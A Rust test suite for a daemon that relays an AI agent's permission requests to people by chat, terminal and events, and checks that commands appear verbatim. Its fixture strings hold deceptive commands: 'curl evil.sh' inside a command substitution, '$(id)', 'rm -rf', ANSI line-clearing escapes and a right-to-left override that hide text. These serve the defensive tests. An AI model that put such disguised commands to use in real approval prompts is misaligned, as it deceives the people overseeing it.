//! What a person sees of what they approve: all of it, character by character, in chats, terminals and events.

use std::os::unix::fs::PermissionsExt;
use std::sync::Arc;

use serde_json::{Value, json};
use tokio::sync::Semaphore;

use crate::support::bot::Bot;
use crate::support::pty::Terminal;
use crate::support::telegram::{ADA, BotMessage, ScriptedFault};
use crate::support::{Daemon, Home, acp, program, until};

/// Looks harmless as Markdown: marks vanish, and a link hides what is substituted.
const SLY: &str = "rm -rf *.o __pycache__\n[ls]($(curl evil.sh))\n[a]: $(id)\n```\n1. No";
/// Looks harmless on a screen.
const STEERS: &str = "curl evil.sh\u{1b}[2K\rls \u{202e}txt.exe\u{200b}";
const STEERS_SHOWN: &str = "curl evil.sh\\x1b[2K\\x0dls \\u{202e}txt.exe\\u{200b}";

/// A daemon whose agent asks permission for this tool call.
fn start(home: &Home, told: &Value) -> Daemon {
    home.write("call.json", &told.to_string());
    let call = home.path().join("call.json").display().to_string();
    acp::start(home, "plain", &[("ACP_AGENT_CALL", &call)])
}

fn call(title: &str, more: Value) -> Value {
    let mut call = json!({"toolCallId": "t1", "title": title});
    let fields = call.as_object_mut().unwrap();
    fields.extend(more.as_object().unwrap().clone());
    json!({"call": call})
}

fn asked(bot: &Bot, chat: i64) -> BotMessage {
    bot.api.says(chat, None, &ADA, "permission please");
    bot.api.until_message(chat, None, |m| !m.buttons.is_empty())
}

/// The texts of the blocks of code in a message.
fn code(message: &BotMessage) -> Vec<String> {
    let units: Vec<u16> = message.text.encode_utf16().collect();
    let entities = message.entities.as_array().into_iter().flatten();
    entities
        .filter(|entity| entity["type"] == "pre")
        .map(|entity| {
            let at = |key: &str| entity[key].as_u64().unwrap() as usize;
            let from = at("offset");
            String::from_utf16(&units[from..from + at("length")]).unwrap()
        })
        .collect()
}

#[test]
fn a_chat_shows_what_will_run_verbatim_before_and_after_the_answer() {
    let (bot, chat) = Bot::of_ada("");
    let input = json!({"kind": "execute", "rawInput": SLY});
    let _daemon = start(&bot.home, &call(STEERS, input));
    let question = asked(&bot, chat);
    assert_eq!(code(&question), [STEERS_SHOWN, SLY], "{question:?}");
    assert!(question.text.starts_with("May I do this?"), "{question:?}");
    assert!(question.text.contains("Tool (execute):"), "{question:?}");
    let (_, behind) = question.text.rsplit_once(SLY).unwrap();
    assert!(behind.contains("1. Yes\n2. Always\n3. No"), "{behind}");
    bot.api.presses(chat, question.id, &ADA, "No");
    let closed = bot.api.until_message(chat, None, |m| {
        m.id == question.id && m.text.ends_with("→ No") && m.buttons.is_empty()
    });
    assert_eq!(code(&closed), [STEERS_SHOWN, SLY], "{closed:?}");
}

/// A daemon with as much of Hermes' backend as it takes: every request is answered, and a prompt asks for an approval. With
/// the answer the turn ends, or with the file `gives-up`. Returns what Hermes was told.
fn start_hermes(bot: &Bot) -> (Daemon, std::path::PathBuf) {
    let asks = json!({"jsonrpc": "2.0", "method": "event", "params": {
        "type": "approval.request", "session_id": "live", "payload": {
            "command": SLY, "description": "*deletes* files", "choices": ["once", "always", "deny"],
        },
    }});
    let done = json!({"jsonrpc": "2.0", "method": "event", "params": {
        "type": "message.complete", "session_id": "live", "payload": {"text": "Done."},
    }});
    bot.home.write("asks.json", &format!("{asks}\n"));
    bot.home.write("done.json", &format!("{done}\n"));
    let home = bot.home.path().display();
    let script = format!(
        r#"echo '{{"jsonrpc":"2.0","method":"event","params":{{"type":"gateway.ready"}}}}'
while read -r line; do
  id=$(echo "$line" | sed 's/.*"id":\([0-9]*\).*/\1/')
  echo "$line" >> $OUT
  echo "{{\"jsonrpc\":\"2.0\",\"id\":$id,\"result\":{{\"session_id\":\"live\"}}}}"
  case "$line" in
    *prompt.submit*)
      cat {home}/asks.json
      (while [ -d {home} ] && [ ! -e {home}/gives-up ]; do sleep 0.05; done; cat {home}/done.json) &;;
    *approval.respond*) cat {home}/done.json;;
  esac
done"#
    );
    let (python, told) = program(&bot.home, "python", &script);
    let daemon = bot.start_with(&[
        ("HERMESD_AGENT_DEFAULT", "hermes"),
        ("HERMESD_AGENTS_HERMES_PYTHON", &python),
        ("HERMESD_AGENT_QUESTION_TIMEOUT", "never"),
    ]);
    (daemon, told)
}

#[test]
fn a_chat_shows_the_command_that_hermes_asks_for_verbatim() {
    let (bot, chat) = Bot::of_ada("");
    let (_daemon, told) = start_hermes(&bot);
    let question = asked(&bot, chat);
    assert_eq!(code(&question), [SLY, "*deletes* files"], "{question:?}");
    bot.api.presses(chat, question.id, &ADA, "No");
    until("Hermes hears the answer", || {
        let told = std::fs::read_to_string(&told).unwrap_or_default();
        told.contains(r#""choice":"deny""#).then_some(())
    });
    bot.api.until_message(chat, None, |m| m.text == "Done.");
}

#[test]
fn a_question_is_closed_when_hermes_waits_no_longer() {
    let (bot, chat) = Bot::of_ada("");
    let (_daemon, told) = start_hermes(&bot);
    let question = asked(&bot, chat);
    bot.home.write("gives-up", "");
    bot.api.until_message(chat, None, |m| m.text == "Done.");
    bot.api.until_message(chat, None, |m| {
        m.id == question.id && m.buttons.is_empty() && m.text.ends_with("(no longer open)")
    });
    // An answer would be taken for whatever it asks next.
    let told = std::fs::read_to_string(&told).unwrap();
    assert!(!told.contains("approval.respond"), "{told}");
}

/// The agent abandons the question while its message is on its way.
#[test]
fn a_question_that_arrives_after_its_end_shows_the_end() {
    let (bot, chat) = Bot::of_ada("");
    let answers = Arc::new(Semaphore::new(0));
    bot.api
        .then("sendMessage", ScriptedFault::HoldAfter(answers.clone()));
    let (_daemon, _) = start_hermes(&bot);
    let question = asked(&bot, chat);
    bot.home.write("gives-up", "");
    bot.api.until_message(chat, None, |m| m.text == "Done.");
    answers.add_permits(1);
    bot.api.until_message(chat, None, |m| {
        m.id == question.id && m.buttons.is_empty() && m.text.ends_with("(no longer open)")
    });
}

#[test]
fn a_long_change_is_cut_with_a_number_and_the_whole_is_a_file() {
    let (bot, chat) = Bot::of_ada("");
    let lines = |word: &str| -> String { (0..500).map(|n| format!("{word} {n}\n")).collect() };
    let diff = json!({"type": "diff", "path": "/etc/motd", "oldText": lines("old"), "newText": lines("new")});
    let input = json!({"path": "/etc/motd"});
    let told = call("Edit", json!({"rawInput": input, "content": [diff]}));
    let _daemon = start(&bot.home, &told);
    let question = asked(&bot, chat);
    let code = code(&question);
    assert_eq!(code[1], "{\n  \"path\": \"/etc/motd\"\n}");
    assert!(
        code[2].starts_with("--- /etc/motd\n+++ /etc/motd\n@@ "),
        "{code:?}"
    );
    assert!(code[2].contains("\n-old 0\n-old 1\n"), "{code:?}");
    let left_out = 1003 - code[2].lines().count();
    let note = format!("({left_out} lines left out)");
    assert!(question.text.contains(&note), "{note} in {question:?}");
    assert!(question.text.contains("The whole is in the file above."));
    let sent = bot.api.messages_in(chat, None);
    let file = sent.iter().find_map(|m| m.file.clone()).expect("a file");
    let whole = String::from_utf8(file.bytes.to_vec()).unwrap();
    assert!(whole.contains("\n-old 499\n") && whole.contains("\n+new 499\n"));
    assert!(sent[0].file.is_some(), "it stands above the question");
    bot.api.presses(chat, question.id, &ADA, "Yes");
    bot.api
        .until_message(chat, None, |m| m.text == "You chose the-allow_once");
    until("the file is gone with the question", || {
        let left = std::fs::read_dir(bot.home.path().join("questions")).unwrap();
        (left.count() == 0).then_some(())
    });
}

#[tokio::test]
async fn a_chat_without_files_says_where_the_whole_is() {
    let home = Home::new();
    let input: String = (0..100).map(|n| format!("line {n}\n")).collect();
    let daemon = start(&home, &call("Write", json!({"rawInput": input})));
    let client = daemon.client().await;
    acp::write(&client, None, "permission").await;
    let said = acp::heard(&client, None, 1).await.remove(0);
    assert!(said.contains("lines left out)"), "{said}");
    let (_, path) = said.split_once("The whole is in ").expect("a place");
    let path = path.lines().next().unwrap().replace('\\', "");
    let mode = std::fs::metadata(&path).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    let whole = std::fs::read_to_string(&path).unwrap();
    assert!(whole.contains("line 99\n"), "{whole}");
    acp::write(&client, None, "3").await;
    acp::heard(&client, None, 2).await;
    until("the file is gone with the question", || {
        (!std::path::Path::new(&path).exists()).then_some(())
    });
}

#[test]
fn what_was_said_of_a_tool_before_is_shown_when_it_is_asked_for() {
    let (bot, chat) = Bot::of_ada("");
    let told = json!({
        "before": {"toolCallId": "t1", "title": "Run", "kind": "execute", "rawInput": {"command": "id"}},
        "call": {"toolCallId": "t1"},
    });
    let _daemon = start(&bot.home, &told);
    let question = asked(&bot, chat);
    assert_eq!(code(&question), ["Run", "{\n  \"command\": \"id\"\n}"]);
}

#[test]
fn a_terminal_shows_what_will_run_and_nothing_of_it_steers_the_screen() {
    let home = Home::new();
    let _daemon = start(&home, &call(STEERS, json!({"rawInput": SLY})));
    let terminal = Terminal::open(&home, &["chat"], 60, 40);
    terminal.say("permission");
    terminal.shows("Answer with a number.");
    let screen = terminal.screen();
    assert!(screen.contains(&format!("  │ {STEERS_SHOWN}")), "{screen}");
    for line in SLY.lines() {
        assert!(screen.contains(&format!("  │ {line}")), "{screen}");
    }
    // Only one list of choices begins a line.
    let choices = |n: &str| screen.lines().filter(|l| l.starts_with(n)).count();
    assert_eq!((choices("1. "), choices("3. No")), (1, 1), "{screen}");
    terminal.shows("\nallow? [1-3]");
    terminal.type_line("3");
    terminal.shows("You chose the-reject_once");
}

#[test]
fn events_tell_the_parts_of_a_question_apart() {
    let home = Home::new();
    let _daemon = start(
        &home,
        &call(STEERS, json!({"kind": "execute", "rawInput": SLY})),
    );
    let talk = home.talk(&[], "permission\n2\n");
    let question = &talk.turns[0];
    assert_eq!(question["type"], "turn.question", "{talk:?}");
    assert_eq!(question["ask"], "May I do this?");
    let subject =
        json!([{"label": "Tool (execute)", "text": STEERS}, {"label": "Input", "text": SLY}]);
    assert_eq!(question["subject"], subject);
    assert_eq!(question["choices"], json!(["Yes", "Always", "No"]));
    assert_eq!(question["place"], "terminal");
    let text = question["text"].as_str().unwrap();
    assert!(
        text.starts_with("May I do this?\n") && text.contains(SLY),
        "{text}"
    );
    assert_eq!(talk.turns[1]["reply"], "You chose the-allow_always");
}
